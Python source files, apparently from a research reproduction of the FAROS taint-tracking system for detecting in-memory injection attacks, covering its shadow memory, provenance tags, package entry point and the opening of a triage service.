            number = paddr >> SHADOW_PAGE_SHIFT
            if number != previous:
                page = pages.get(number)
                previous = number
            if page is None:
                continue
            if type(page) is dict:
                prov = page.get(paddr)
                if prov:
                    out = union(out, prov)
            else:
                tags = page.tags
                off = (paddr & (SHADOW_PAGE_SIZE - 1)) * 3
                code = tags[off] | tags[off + 1] << 8 | tags[off + 2] << 16
                if code:
                    out = union(out, prov_of[code])
        return out

    def set_bytes(self, paddrs: Iterable[int], prov: Prov) -> None:
        if prov:
            for paddr in paddrs:
                self.set(paddr, prov)
        else:
            self.clear_bytes(paddrs)

    def clear_bytes(self, paddrs: Iterable[int]) -> None:
        for paddr in paddrs:
            self.set(paddr, EMPTY)

    # ------------------------------------------------------------------
    # cleanliness probes
    # ------------------------------------------------------------------

    def pages_clean(self, paddrs: Sequence[int]) -> bool:
        """True if no byte of *paddrs* lands on a dirty shadow page.

        Conservative in the cheap direction: a hit on a dirty page whose
        *particular* bytes are clean reports False, sending the caller
        to the exact (slow) path.  Probes each **distinct** page once:
        an 8-byte operand costs one probe (two when it straddles), never
        one per byte, and scattered multi-page tuples are deduped.
        """
        pages = self._pages
        if not pages or not paddrs:
            return True
        first = paddrs[0] >> SHADOW_PAGE_SHIFT
        if first in pages:
            return False
        last = paddrs[-1] >> SHADOW_PAGE_SHIFT
        if last == first:
            return True
        if last in pages:
            return False
        if len(paddrs) > 2:
            # scattered frames: middle bytes may touch further pages.
            seen = {first, last}
            for paddr in paddrs[1:-1]:
                number = paddr >> SHADOW_PAGE_SHIFT
                if number not in seen:
                    if number in pages:
                        return False
                    seen.add(number)
        return True

    def bytes_clean(self, paddrs: Sequence[int]) -> bool:
        """Byte-precise cleanliness of *paddrs* (the flag-cache upgrade
        of :meth:`pages_clean`): bytes on dirty pages are still clean
        if their own entries are -- array pages answer with three
        ``bytearray`` reads, dict pages with one membership probe."""
        pages = self._pages
        if not pages:
            return True
        previous = -1
        page: object = None
        for paddr in paddrs:
            number = paddr >> SHADOW_PAGE_SHIFT
            if number != previous:
                page = pages.get(number)
                previous = number
            if page is None:
                continue
            if type(page) is dict:
                if paddr in page:
                    return False
            else:
                tags = page.tags
                off = (paddr & (SHADOW_PAGE_SIZE - 1)) * 3
                if tags[off] or tags[off + 1] or tags[off + 2]:
                    return False
        return True

    def range_clean(self, start: int, length: int) -> bool:
        """Byte-precise cleanliness of a contiguous physical range."""
        pages = self._pages
        if not pages:
            return True
        for number, pos, page_end in self._chunks(start, length):
            page = pages.get(number)
            if page is None:
                continue
            if type(page) is dict:
                if len(page) <= page_end - pos:
                    for paddr in page:
                        if pos <= paddr < page_end:
                            return False
                else:
                    for paddr in range(pos, page_end):
                        if paddr in page:
                            return False
            else:
                tags = page.tags
                base = number << SHADOW_PAGE_SHIFT
                a3, b3 = (pos - base) * 3, (page_end - base) * 3
                if tags.count(0, a3, b3) != b3 - a3:
                    return False
        return True

    def page_dirty(self, number: int) -> bool:
        """True if shadow page *number* holds at least one tainted byte.

        The single-page form of :meth:`pages_clean`, for callers that
        already know their footprint lies in one shadow page -- the
        block translator's per-block fetch-footprint probe (a whole
        translated block sits inside one 256-byte MMU page, which can
        never straddle a 4 KiB shadow page).
        """
        return number in self._pages

    # ------------------------------------------------------------------
    # promotion / demotion
    # ------------------------------------------------------------------

    def _maybe_promote(self, number: int, page: Dict[int, Prov]) -> None:
        if self._code_overflow or len(page) < self._promote_retry.get(number, 0):
            return
        if not self._build_array(number, page):
            self._promote_retry[number] = len(page) * 2

    def _build_array(self, number: int, page: Dict[int, Prov]) -> bool:
        distinct = set(page.values())
        if len(distinct) > self._max_codes:
            return False
        for prov in distinct:
            if self._encode(prov) < 0:
                return False
        apage = ShadowArrayPage()
        tags = apage.tags
        enc = self._enc
        code_of = self._code_of
        codes = apage.codes
        base = number << SHADOW_PAGE_SHIFT
        for paddr, prov in page.items():
            code = code_of[prov]
            off = (paddr - base) * 3
            tags[off : off + 3] = enc[code]
            codes.add(code)
        apage.count = len(page)
        self._pages[number] = apage
        self.promotions += 1
        self._promote_retry.pop(number, None)
        # content is identical: no epoch bump, summary cache stays valid.
        return True

    def _demote(self, number: int, page: ShadowArrayPage) -> None:
        tags = page.tags
        prov_of = self._prov_of
        base = number << SHADOW_PAGE_SHIFT
        out: Dict[int, Prov] = {}
        for chunk in range(0, 3 * SHADOW_PAGE_SIZE, 384):
            if tags.count(0, chunk, chunk + 384) == 384:
                continue
            for off in range(chunk, chunk + 384, 3):
                code = tags[off] | tags[off + 1] << 8 | tags[off + 2] << 16
                if code:
                    out[base + off // 3] = prov_of[code]
        self._pages[number] = out
        self.demotions += 1
        # content is identical: no epoch bump, summary cache stays valid.

    def _check_codes(self, number: int, page: ShadowArrayPage) -> None:
        """Recompute the exact code set; demote if genuinely too diverse."""
        tags = page.tags
        codes: Set[int] = set()
        for chunk in range(0, 3 * SHADOW_PAGE_SIZE, 384):
            if tags.count(0, chunk, chunk + 384) == 384:
                continue
            for off in range(chunk, chunk + 384, 3):
                code = tags[off] | tags[off + 1] << 8 | tags[off + 2] << 16
                if code:
                    codes.add(code)
        page.codes = codes
        if len(codes) > self._max_codes:
            self._demote(number, page)

    def promote_page(self, number: int) -> bool:
        """Force page *number* into the array form (tests/benchmarks).

        Returns True if the page is array-backed on return."""
        page = self._pages.get(number)
        if page is None:
            return False
        if type(page) is not dict:
            return True
        return self._build_array(number, page)

    def demote_page(self, number: int) -> bool:
        """Force page *number* into the dict form (tests/benchmarks).

        Returns True if the page is dict-backed on return."""
        page = self._pages.get(number)
        if page is None:
            return False
        if type(page) is dict:
            return True
        self._demote(number, page)
        return True

    # ------------------------------------------------------------------
    # introspection
    # ------------------------------------------------------------------

    @property
    def tainted_bytes(self) -> int:
        """How many physical bytes currently carry provenance (E12)."""
        return self._count

    @property
    def dirty_page_count(self) -> int:
        """How many 4 KiB shadow pages hold at least one tainted byte.

        With :attr:`tainted_bytes` this gives shadow-page *occupancy*
        (tainted bytes per dirty page) -- the density figure that says
        whether taint is concentrated (cheap page probes) or smeared
        across many pages (the tag-pressure failure mode).
        """
        return len(self._pages)

    @property
    def array_page_count(self) -> int:
        """Dirty pages currently in the flat array representation."""
        return sum(1 for page in self._pages.values() if type(page) is not dict)

    @property
    def dict_page_count(self) -> int:
        """Dirty pages currently in the dict-of-entries representation."""
        return sum(1 for page in self._pages.values() if type(page) is dict)

    def dirty_pages(self) -> List[int]:
        """Shadow page numbers holding at least one tainted byte."""
        return sorted(self._pages)

    def items(self) -> Iterator[Tuple[int, Prov]]:
        prov_of = self._prov_of
        for number, page in self._pages.items():
            if type(page) is dict:
                yield from page.items()
            else:
                tags = page.tags
                base = number << SHADOW_PAGE_SHIFT
                for chunk in range(0, 3 * SHADOW_PAGE_SIZE, 384):
                    if tags.count(0, chunk, chunk + 384) == 384:
                        continue
                    for off in range(chunk, chunk + 384, 3):
                        code = tags[off] | tags[off + 1] << 8 | tags[off + 2] << 16
                        if code:
                            yield base + off // 3, prov_of[code]

    def snapshot(self) -> Dict[int, Prov]:
        """Flat ``paddr -> provenance`` copy (differential comparisons)."""
        out: Dict[int, Prov] = {}
        for paddr, prov in self.items():
            out[paddr] = prov
        return out


class ShadowRegisters:
    """Provenance lists for one thread's register file (plus flags)."""

    __slots__ = ("regs", "flags", "tainted")

    def __init__(self) -> None:
        self.regs: List[Prov] = [EMPTY] * NUM_REGS
        self.flags: Prov = EMPTY
        #: count of registers with non-empty provenance (flags excluded);
        #: lets the tracker's fast gate test bank cleanliness in O(1).
        self.tainted = 0

    def get(self, reg: Reg) -> Prov:
        return self.regs[reg]

    def set(self, reg: Reg, prov: Prov) -> None:
        old = self.regs[reg]
        if prov:
            if not old:
                self.tainted += 1
        elif old:
            self.tainted -= 1
        self.regs[reg] = prov

    def snapshot(self) -> Dict[object, Prov]:
        """Non-empty register provenance (differential comparisons)."""
        out: Dict[object, Prov] = {
            Reg(i): prov for i, prov in enumerate(self.regs) if prov
        }
        if self.flags:
            out["flags"] = self.flags
        return out


class ShadowBank:
    """Per-thread shadow register banks, switched with the scheduler."""

    def __init__(self) -> None:
        self._banks: Dict[int, ShadowRegisters] = {}

    def for_thread(self, tid: int) -> ShadowRegisters:
        bank = self._banks.get(tid)
        if bank is None:
            bank = ShadowRegisters()
            self._banks[tid] = bank
        return bank

    def drop_thread(self, tid: int) -> None:
        self._banks.pop(tid, None)

    def any_tainted(self) -> bool:
        """True if any thread's bank holds taint (registers or flags)."""
        return any(b.tainted or b.flags for b in self._banks.values())

    def snapshot(self) -> Dict[int, Dict[object, Prov]]:
        """Non-empty banks only (differential comparisons)."""
        out = {}
        for tid, bank in self._banks.items():
            snap = bank.snapshot()
            if snap:
                out[tid] = snap
        return out
