"""Shadow state: per-physical-byte memory and per-thread register banks.

The paper keeps "a shadow memory and a shadow register bank" as hash
maps (§V-A).  Ours are:

* :class:`ShadowMemory` -- ``physical address -> provenance list``.
  Keying on *physical* addresses is what makes the analysis
  whole-system: a byte injected across address spaces keeps its shadow
  entry because it keeps its physical location, and kernel-mediated
  copies are just physical-to-physical moves.
* :class:`ShadowRegisters` -- one provenance list per architectural
  register, *per thread*.  Register shadows context-switch with the
  registers themselves, otherwise taint would leak between guest
  threads that share the emulated CPU core.
"""

from __future__ import annotations

from typing import Dict, Iterable, List, Tuple

from repro.isa.registers import NUM_REGS, Reg
from repro.taint.provenance import EMPTY, union_all
from repro.taint.tags import Tag

Prov = Tuple[Tag, ...]


class ShadowMemory:
    """Sparse byte-granular shadow over physical memory."""

    def __init__(self) -> None:
        self._mem: Dict[int, Prov] = {}

    def get(self, paddr: int) -> Prov:
        return self._mem.get(paddr, EMPTY)

    def get_range(self, paddrs: Iterable[int]) -> Prov:
        """Union of the provenance of several bytes (word loads)."""
        return union_all(self._mem.get(p, EMPTY) for p in paddrs)

    def set(self, paddr: int, prov: Prov) -> None:
        if prov:
            self._mem[paddr] = prov
        else:
            self._mem.pop(paddr, None)

    def set_range(self, paddrs: Iterable[int], prov: Prov) -> None:
        if prov:
            for paddr in paddrs:
                self._mem[paddr] = prov
        else:
            for paddr in paddrs:
                self._mem.pop(paddr, None)

    def clear_range(self, paddrs: Iterable[int]) -> None:
        for paddr in paddrs:
            self._mem.pop(paddr, None)

    @property
    def tainted_bytes(self) -> int:
        """How many physical bytes currently carry provenance (E12)."""
        return len(self._mem)

    def items(self):
        return self._mem.items()


class ShadowRegisters:
    """Provenance lists for one thread's register file (plus flags)."""

    __slots__ = ("regs", "flags")

    def __init__(self) -> None:
        self.regs: List[Prov] = [EMPTY] * NUM_REGS
        self.flags: Prov = EMPTY

    def get(self, reg: Reg) -> Prov:
        return self.regs[reg]

    def set(self, reg: Reg, prov: Prov) -> None:
        self.regs[reg] = prov


class ShadowBank:
    """Per-thread shadow register banks, switched with the scheduler."""

    def __init__(self) -> None:
        self._banks: Dict[int, ShadowRegisters] = {}

    def for_thread(self, tid: int) -> ShadowRegisters:
        bank = self._banks.get(tid)
        if bank is None:
            bank = ShadowRegisters()
            self._banks[tid] = bank
        return bank

    def drop_thread(self, tid: int) -> None:
        self._banks.pop(tid, None)
