"""Shadow state: page-organised shadow memory and per-thread register banks.

The paper keeps "a shadow memory and a shadow register bank" as hash
maps (§V-A).  Ours are:

* :class:`ShadowMemory` -- ``physical address -> provenance list``,
  organised as sparse **4 KiB shadow pages**.  Keying on *physical*
  addresses is what makes the analysis whole-system: a byte injected
  across address spaces keeps its shadow entry because it keeps its
  physical location, and kernel-mediated copies are just
  physical-to-physical moves.  Page organisation is the fast path: the
  overwhelming majority of loads/stores touch memory that carries no
  taint at all, and those now cost **one dict probe per touched shadow
  page** (the per-page "all-clean" exit) instead of one probe per byte.
  The page table doubles as the **dirty-page index** -- only pages that
  hold at least one tainted byte exist in it.
* :class:`ShadowRegisters` -- one provenance list per architectural
  register, *per thread*.  Register shadows context-switch with the
  registers themselves, otherwise taint would leak between guest
  threads that share the emulated CPU core.  Each bank maintains a
  ``tainted`` count so the tracker's per-instruction gate can test
  "this thread's register file is wholly clean" in O(1).

Range operations take ``(start, length)`` pairs -- physical ranges are
contiguous in every call site that has one (frame frees, image loads),
and the page-based store iterates them page-at-a-time.  Accesses whose
bytes may be physically scattered (an instruction operand spanning a
guest page boundary) use the ``*_bytes`` variants, which accept the
per-byte ``paddrs`` tuples the CPU emits.
"""

from __future__ import annotations

from typing import Dict, Iterable, Iterator, List, Optional, Sequence, Tuple

from repro.isa.registers import NUM_REGS, Reg
from repro.taint.provenance import EMPTY, prov_union
from repro.taint.tags import Tag

Prov = Tuple[Tag, ...]

#: Shadow pages are 4 KiB -- independent of the guest's 256-byte MMU
#: pages.  Larger shadow pages mean fewer probes on the clean path; the
#: dirty-byte dict inside a page stays sparse either way.
SHADOW_PAGE_SHIFT = 12
SHADOW_PAGE_SIZE = 1 << SHADOW_PAGE_SHIFT


class ShadowMemory:
    """Sparse byte-granular shadow over physical memory, in 4 KiB pages.

    Invariants: no page dict is ever empty, and no entry ever maps to an
    empty provenance list -- so ``page absent`` == "these 4 KiB carry no
    taint", which is the all-clean fast exit.
    """

    __slots__ = ("_pages", "_count", "_union")

    def __init__(self, interner=None) -> None:
        #: shadow page number -> {paddr -> provenance} (absent = clean).
        self._pages: Dict[int, Dict[int, Prov]] = {}
        self._count = 0
        self._union = interner.union if interner is not None else prov_union

    # ------------------------------------------------------------------
    # single-byte access
    # ------------------------------------------------------------------

    def get(self, paddr: int) -> Prov:
        page = self._pages.get(paddr >> SHADOW_PAGE_SHIFT)
        if page is None:
            return EMPTY
        return page.get(paddr, EMPTY)

    def set(self, paddr: int, prov: Prov) -> None:
        pages = self._pages
        number = paddr >> SHADOW_PAGE_SHIFT
        page = pages.get(number)
        if prov:
            if page is None:
                page = pages[number] = {}
            if paddr not in page:
                self._count += 1
            page[paddr] = prov
        elif page is not None and page.pop(paddr, None) is not None:
            self._count -= 1
            if not page:
                del pages[number]

    # ------------------------------------------------------------------
    # contiguous (start, length) ranges
    # ------------------------------------------------------------------

    def get_range(self, start: int, length: int) -> Prov:
        """Union of the provenance of ``length`` bytes from ``start``."""
        out: Prov = EMPTY
        pages = self._pages
        pos, end = start, start + length
        while pos < end:
            number = pos >> SHADOW_PAGE_SHIFT
            page_end = min(end, (number + 1) << SHADOW_PAGE_SHIFT)
            page = pages.get(number)
            if page:
                union = self._union
                for paddr in range(pos, page_end):
                    prov = page.get(paddr)
                    if prov:
                        out = union(out, prov)
            pos = page_end
        return out

    def set_range(self, start: int, length: int, prov: Prov) -> None:
        if not prov:
            self.clear_range(start, length)
            return
        pages = self._pages
        pos, end = start, start + length
        while pos < end:
            number = pos >> SHADOW_PAGE_SHIFT
            page_end = min(end, (number + 1) << SHADOW_PAGE_SHIFT)
            page = pages.get(number)
            if page is None:
                page = pages[number] = {}
            before = len(page)
            for paddr in range(pos, page_end):
                page[paddr] = prov
            self._count += len(page) - before
            pos = page_end

    def clear_range(self, start: int, length: int) -> None:
        pages = self._pages
        pos, end = start, start + length
        while pos < end:
            number = pos >> SHADOW_PAGE_SHIFT
            page_end = min(end, (number + 1) << SHADOW_PAGE_SHIFT)
            page = pages.get(number)
            if page:  # absent page: skip the whole 4 KiB in one probe
                pop = page.pop
                for paddr in range(pos, page_end):
                    if pop(paddr, None) is not None:
                        self._count -= 1
                if not page:
                    del pages[number]
            pos = page_end

    # ------------------------------------------------------------------
    # scattered per-byte paddr tuples (CPU accesses can span guest pages)
    # ------------------------------------------------------------------

    def get_bytes(self, paddrs: Iterable[int]) -> Prov:
        """Union of the provenance of several bytes (word loads)."""
        pages = self._pages
        if not pages:
            return EMPTY
        out: Prov = EMPTY
        previous = -1
        page: Optional[Dict[int, Prov]] = None
        for paddr in paddrs:
            number = paddr >> SHADOW_PAGE_SHIFT
            if number != previous:
                page = pages.get(number)
                previous = number
            if page:
                prov = page.get(paddr)
                if prov:
                    out = self._union(out, prov)
        return out

    def set_bytes(self, paddrs: Iterable[int], prov: Prov) -> None:
        if prov:
            for paddr in paddrs:
                self.set(paddr, prov)
        else:
            self.clear_bytes(paddrs)

    def clear_bytes(self, paddrs: Iterable[int]) -> None:
        for paddr in paddrs:
            self.set(paddr, EMPTY)

    def pages_clean(self, paddrs: Sequence[int]) -> bool:
        """True if no byte of *paddrs* lands on a dirty shadow page.

        Conservative in the cheap direction: a hit on a dirty page whose
        *particular* bytes are clean reports False, sending the caller to
        the exact (slow) path.  This is the per-access all-clean exit --
        one probe per distinct page, at most two pages for any CPU
        access.
        """
        pages = self._pages
        if not pages:
            return True
        previous = -1
        for paddr in paddrs:
            number = paddr >> SHADOW_PAGE_SHIFT
            if number != previous:
                if number in pages:
                    return False
                previous = number
        return True

    def page_dirty(self, number: int) -> bool:
        """True if shadow page *number* holds at least one tainted byte.

        The single-page form of :meth:`pages_clean`, for callers that
        already know their footprint lies in one shadow page -- the
        block translator's per-block fetch-footprint probe (a whole
        translated block sits inside one 256-byte MMU page, which can
        never straddle a 4 KiB shadow page).
        """
        return number in self._pages

    # ------------------------------------------------------------------
    # introspection
    # ------------------------------------------------------------------

    @property
    def tainted_bytes(self) -> int:
        """How many physical bytes currently carry provenance (E12)."""
        return self._count

    @property
    def dirty_page_count(self) -> int:
        """How many 4 KiB shadow pages hold at least one tainted byte.

        With :attr:`tainted_bytes` this gives shadow-page *occupancy*
        (tainted bytes per dirty page) -- the density figure that says
        whether taint is concentrated (cheap page probes) or smeared
        across many pages (the tag-pressure failure mode).
        """
        return len(self._pages)

    def dirty_pages(self) -> List[int]:
        """Shadow page numbers holding at least one tainted byte."""
        return sorted(self._pages)

    def items(self) -> Iterator[Tuple[int, Prov]]:
        for page in self._pages.values():
            yield from page.items()

    def snapshot(self) -> Dict[int, Prov]:
        """Flat ``paddr -> provenance`` copy (differential comparisons)."""
        out: Dict[int, Prov] = {}
        for page in self._pages.values():
            out.update(page)
        return out


class ShadowRegisters:
    """Provenance lists for one thread's register file (plus flags)."""

    __slots__ = ("regs", "flags", "tainted")

    def __init__(self) -> None:
        self.regs: List[Prov] = [EMPTY] * NUM_REGS
        self.flags: Prov = EMPTY
        #: count of registers with non-empty provenance (flags excluded);
        #: lets the tracker's fast gate test bank cleanliness in O(1).
        self.tainted = 0

    def get(self, reg: Reg) -> Prov:
        return self.regs[reg]

    def set(self, reg: Reg, prov: Prov) -> None:
        old = self.regs[reg]
        if prov:
            if not old:
                self.tainted += 1
        elif old:
            self.tainted -= 1
        self.regs[reg] = prov

    def snapshot(self) -> Dict[object, Prov]:
        """Non-empty register provenance (differential comparisons)."""
        out: Dict[object, Prov] = {
            Reg(i): prov for i, prov in enumerate(self.regs) if prov
        }
        if self.flags:
            out["flags"] = self.flags
        return out


class ShadowBank:
    """Per-thread shadow register banks, switched with the scheduler."""

    def __init__(self) -> None:
        self._banks: Dict[int, ShadowRegisters] = {}

    def for_thread(self, tid: int) -> ShadowRegisters:
        bank = self._banks.get(tid)
        if bank is None:
            bank = ShadowRegisters()
            self._banks[tid] = bank
        return bank

    def drop_thread(self, tid: int) -> None:
        self._banks.pop(tid, None)

    def any_tainted(self) -> bool:
        """True if any thread's bank holds taint (registers or flags)."""
        return any(b.tainted or b.flags for b in self._banks.values())

    def snapshot(self) -> Dict[int, Dict[object, Prov]]:
        """Non-empty banks only (differential comparisons)."""
        out = {}
        for tid, bank in self._banks.items():
            snap = bank.snapshot()
            if snap:
                out[tid] = snap
        return out
