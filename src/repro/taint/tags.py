"""Tag types, the 3-byte ``prov_tag`` encoding, and the tag hash maps.

The paper represents a tag in three bytes (Fig. 6): one byte of tag
*type* and two bytes of *index* into the hash map for that type
(Fig. 5).  The maps translate compact indices into rich payloads:

* **netflow** -- source/destination IP and port (the 4-tuple);
* **process** -- the CR3 value identifying a process architecturally;
* **file**    -- file name plus an access-version counter;
* **export-table** -- no payload ("its corresponding tag does not
  contain additional information", §V-A), so no hash map and a single
  index 0.

Because indices are 16 bits, each map holds at most 65 536 entries.  The
paper's §VI-D notes an attacker could try to exhaust tag memory; we make
that failure mode explicit with :class:`TagSpaceExhausted`, and the E12
evasion bench measures how fast an adversary can approach the limit.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Optional

import enum

MAX_TAG_INDEX = 0xFFFF


class TagType(enum.IntEnum):
    """The first byte of a ``prov_tag``."""

    NETFLOW = 1
    PROCESS = 2
    FILE = 3
    EXPORT_TABLE = 4


class TagSpaceExhausted(Exception):
    """A tag hash map overflowed its 16-bit index space."""

    def __init__(self, tag_type: TagType) -> None:
        super().__init__(f"{tag_type.name} tag map exhausted ({MAX_TAG_INDEX + 1} entries)")
        self.tag_type = tag_type


@dataclass(frozen=True)
class Tag:
    """One provenance tag: a (type, index) pair -- the ``prov_tag``."""

    type: TagType
    index: int

    def encode(self) -> bytes:
        """The paper's 3-byte on-disk/in-memory representation."""
        return bytes([self.type]) + self.index.to_bytes(2, "little")

    @classmethod
    def decode(cls, raw: bytes) -> "Tag":
        if len(raw) != 3:
            raise ValueError(f"prov_tag must be 3 bytes, got {len(raw)}")
        return cls(TagType(raw[0]), int.from_bytes(raw[1:3], "little"))


@dataclass(frozen=True)
class NetflowTag:
    """Payload of a netflow tag: the connection 4-tuple."""

    src_ip: str
    src_port: int
    dst_ip: str
    dst_port: int

    def __str__(self) -> str:
        return (
            f"{{src ip,port: {self.src_ip}:{self.src_port}, "
            f"dest ip.port: {self.dst_ip}:{self.dst_port}}}"
        )


@dataclass(frozen=True)
class FileTag:
    """Payload of a file tag: name + how-many-accesses version."""

    name: str
    version: int

    def __str__(self) -> str:
        return f"{{file: {self.name}, v{self.version}}}"


class _IndexMap:
    """One interned payload->index map with the 16-bit capacity limit."""

    def __init__(self, tag_type: TagType) -> None:
        self.tag_type = tag_type
        self._by_payload: Dict[object, int] = {}
        self._by_index: Dict[int, object] = {}

    def intern(self, payload: object) -> int:
        index = self._by_payload.get(payload)
        if index is not None:
            return index
        index = len(self._by_payload)
        if index > MAX_TAG_INDEX:
            raise TagSpaceExhausted(self.tag_type)
        self._by_payload[payload] = index
        self._by_index[index] = payload
        return index

    def payload(self, index: int) -> object:
        return self._by_index[index]

    def __len__(self) -> int:
        return len(self._by_payload)


class TagStore:
    """The three tag hash maps plus the singleton export-table tag.

    Tags handed out by one store are interned: the same netflow 4-tuple
    always yields the identical :class:`Tag`, so provenance lists can be
    compared and deduplicated with plain equality.
    """

    def __init__(self) -> None:
        self._netflow = _IndexMap(TagType.NETFLOW)
        self._process = _IndexMap(TagType.PROCESS)
        self._file = _IndexMap(TagType.FILE)
        self._export_tag = Tag(TagType.EXPORT_TABLE, 0)
        # The paper's stated future work (§V-A): "we plan to augment this
        # tag with information about function name, which will require the
        # addition of a corresponding hash map."  Index 0 stays the
        # anonymous export-table tag; named entries start at 1.
        self._export = _IndexMap(TagType.EXPORT_TABLE)
        self._export.intern(None)  # reserve index 0 for the anonymous tag
        #: Optional display names for process tags (CR3 -> process name),
        #: filled in by OS introspection for human-readable reports.
        self.process_names: Dict[int, str] = {}

    # -- constructors ----------------------------------------------------------

    def netflow_tag(self, src_ip: str, src_port: int, dst_ip: str, dst_port: int) -> Tag:
        payload = NetflowTag(src_ip, src_port, dst_ip, dst_port)
        return Tag(TagType.NETFLOW, self._netflow.intern(payload))

    def process_tag(self, cr3: int) -> Tag:
        return Tag(TagType.PROCESS, self._process.intern(cr3))

    def file_tag(self, name: str, version: int) -> Tag:
        return Tag(TagType.FILE, self._file.intern(FileTag(name, version)))

    def export_table_tag(self, function_name: Optional[str] = None) -> Tag:
        """The export-table tag; with *function_name*, the augmented
        per-function variant (the §V-A future-work hash map)."""
        if function_name is None:
            return self._export_tag
        return Tag(TagType.EXPORT_TABLE, self._export.intern(function_name))

    # -- lookups ------------------------------------------------------------------

    def netflow_payload(self, tag: Tag) -> NetflowTag:
        assert tag.type is TagType.NETFLOW
        return self._netflow.payload(tag.index)  # type: ignore[return-value]

    def process_cr3(self, tag: Tag) -> int:
        assert tag.type is TagType.PROCESS
        return self._process.payload(tag.index)  # type: ignore[return-value]

    def file_payload(self, tag: Tag) -> FileTag:
        assert tag.type is TagType.FILE
        return self._file.payload(tag.index)  # type: ignore[return-value]

    def export_function(self, tag: Tag) -> Optional[str]:
        """The function name of an augmented export-table tag, if any."""
        assert tag.type is TagType.EXPORT_TABLE
        return self._export.payload(tag.index)  # type: ignore[return-value]

    def describe(self, tag: Tag) -> str:
        """Human-readable rendering used in FAROS reports (Table II)."""
        if tag.type is TagType.NETFLOW:
            return f"NetFlow: {self.netflow_payload(tag)}"
        if tag.type is TagType.PROCESS:
            cr3 = self.process_cr3(tag)
            name = self.process_names.get(cr3)
            return f"Process: {name}" if name else f"Process: cr3={cr3:#x}"
        if tag.type is TagType.FILE:
            return f"File: {self.file_payload(tag)}"
        function = self.export_function(tag)
        return f"ExportTable({function})" if function else "ExportTable"

    # -- statistics (E12) --------------------------------------------------------------

    def sizes(self) -> Dict[str, int]:
        """Current entry counts per map (tag-memory pressure metric).

        ``export`` excludes the reserved anonymous entry, so it counts
        only augmented (named) export tags.
        """
        return {
            "netflow": len(self._netflow),
            "process": len(self._process),
            "file": len(self._file),
            "export": len(self._export) - 1,
        }
