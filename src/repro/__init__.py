"""FAROS reproduction: provenance-based whole-system DIFT for
illuminating in-memory injection attacks (DSN 2018).

Quick start::

    from repro import Faros, build_reflective_dll_scenario, record, replay

    attack = build_reflective_dll_scenario()
    recording = record(attack.scenario)   # cheap recording run
    faros = Faros()
    replay(recording, plugins=[faros])    # heavyweight taint analysis
    print(faros.report().render())        # Table II-style provenance

Package map:

* :mod:`repro.isa` -- the CPU/memory/assembler substrate
* :mod:`repro.emulator` -- whole-system machine, plugins, record/replay
* :mod:`repro.guestos` -- the Windows-like guest kernel
* :mod:`repro.taint` -- the DIFT core (tags, shadow state, propagation)
* :mod:`repro.faros` -- the paper's contribution: tag insertion +
  confluence detection + provenance reporting
* :mod:`repro.attacks` -- reflective DLL injection, process hollowing,
  code injection, evasion variants
* :mod:`repro.workloads` -- the Table III/IV false-positive corpora
* :mod:`repro.baselines` -- Cuckoo sandbox and Volatility/malfind analogs
* :mod:`repro.analysis` -- one experiment runner per paper table/figure
"""

from repro.attacks import (
    build_bypassuac_injection_scenario,
    build_code_injection_scenario,
    build_process_hollowing_scenario,
    build_reflective_dll_scenario,
    build_reverse_tcp_dns_scenario,
)
from repro.emulator import Machine, MachineConfig, Scenario, record, replay
from repro.faros import Faros, FarosReport
from repro.taint import TaintPolicy, TaintTracker

__version__ = "1.0.0"

__all__ = [
    "Faros",
    "FarosReport",
    "Machine",
    "MachineConfig",
    "Scenario",
    "TaintPolicy",
    "TaintTracker",
    "build_bypassuac_injection_scenario",
    "build_code_injection_scenario",
    "build_process_hollowing_scenario",
    "build_reflective_dll_scenario",
    "build_reverse_tcp_dns_scenario",
    "record",
    "replay",
]
