"""``repro serve``: the crash-safe triage service over a local socket.

Architecture (one process, two concurrency domains):

* The **asyncio domain** owns the Unix socket: it parses NDJSON
  requests, enforces admission control (per-tenant quotas, total-queue
  backpressure), journals accepted jobs, and streams result rows back
  to whichever connections subscribed to them.
* The **dispatcher thread** owns the
  :class:`~repro.serve.supervisor.WorkerPool`: it feeds queued jobs to
  idle workers (priority lanes: high before normal before low), turns
  supervision events into rows -- retrying retryable deaths, erroring
  terminal ones -- and checkpoints every completion to the journal
  *before* the row is emitted.

Shared scheduler state sits behind one :class:`threading.Lock`;
cross-domain signaling is ``loop.call_soon_threadsafe``.  The write
ordering (accept-then-dispatch, done-then-emit) is what makes a
SIGKILL at any instant recoverable: on restart the journal replay
re-enqueues exactly the accepted-but-unfinished jobs and can re-emit
any completed row verbatim, so no job is ever lost or run twice.
"""

from __future__ import annotations

import asyncio
import json
import os
import socket
import threading
import time
from collections import deque
from dataclasses import dataclass
from typing import Callable, Deque, Dict, List, Optional, Sequence, Set

from repro.analysis.triage import (
    DEFAULT_MAX_RETRIES,
    TriageJob,
    TriageResult,
    _error_result,
)
from repro.obs.metrics import MetricsRegistry
from repro.serve.journal import JobJournal, job_from_json_dict, job_to_json_dict
from repro.serve.supervisor import WorkerPool

PRIORITIES = ("high", "normal", "low")


@dataclass
class ServeConfig:
    """Everything ``repro serve`` is parameterized by."""

    socket_path: str
    journal_path: str
    workers: int = 2
    timeout: Optional[float] = None
    heartbeat_timeout: float = 30.0
    max_retries: int = DEFAULT_MAX_RETRIES
    #: Concurrent dispatched jobs (defaults to the worker count).
    max_inflight: Optional[int] = None
    #: Total queued jobs before submits are rejected (backpressure).
    max_queued: int = 1024
    #: Outstanding (queued + in-flight) jobs per tenant; None = no quota.
    tenant_quota: Optional[int] = None


@dataclass
class _QueueEntry:
    job: TriageJob
    attempt: int = 1
    priority: str = "normal"
    tenant: str = "default"


class TriageService:
    """The serve scheduler.  One instance per ``repro serve`` process."""

    def __init__(self, config: ServeConfig) -> None:
        self.config = config
        self.metrics = MetricsRegistry(enabled=True)
        self._ctr_accepted = self.metrics.counter("serve.jobs.accepted")
        self._ctr_rejected = self.metrics.counter("serve.jobs.rejected")
        self._ctr_completed = self.metrics.counter("serve.jobs.completed")
        self._ctr_retries = self.metrics.counter("serve.jobs.retried")
        self._ctr_resumed = self.metrics.counter("serve.jobs.resumed")

        self._lock = threading.Lock()
        self._lanes: Dict[str, Deque[_QueueEntry]] = {
            p: deque() for p in PRIORITIES
        }
        #: job_id -> entry, while dispatched to a worker.
        self._inflight: Dict[int, _QueueEntry] = {}
        #: job_id -> queued-or-inflight entry (admission dedupe).
        self._outstanding: Dict[int, _QueueEntry] = {}
        #: job_id -> completed row (journal-backed, re-emittable).
        self._done: Dict[int, dict] = {}
        #: job_id -> callbacks wanting that row.
